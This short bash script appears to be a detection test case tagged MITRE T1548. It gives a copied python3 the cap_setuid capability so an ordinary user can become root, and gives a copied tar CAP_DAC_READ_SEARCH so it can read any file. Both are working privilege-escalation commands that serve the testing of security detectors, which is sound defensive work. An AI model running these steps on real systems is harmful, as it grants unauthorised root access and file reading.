#!/bin/bash
# desc: cap_setuid given to a copy of python with setcap (GTFOBins "capabilities"), then used by an ordinary user to become root
# mitre: T1548
# expect: file_capability_set*2, unprivileged_process_became_root
source "$ATTACK_LIB"

cp /usr/bin/python3 "$ATTACK_TMP/py"
setcap cap_setuid+ep "$ATTACK_TMP/py"
as_user "$ATTACK_TMP/py" -c 'import os; os.setuid(0); os.execv("/usr/bin/id", ["id", "-u"])' >/dev/null
cp /usr/bin/tar "$ATTACK_TMP/tar"
setcap 'CAP_DAC_READ_SEARCH=eip' "$ATTACK_TMP/tar"
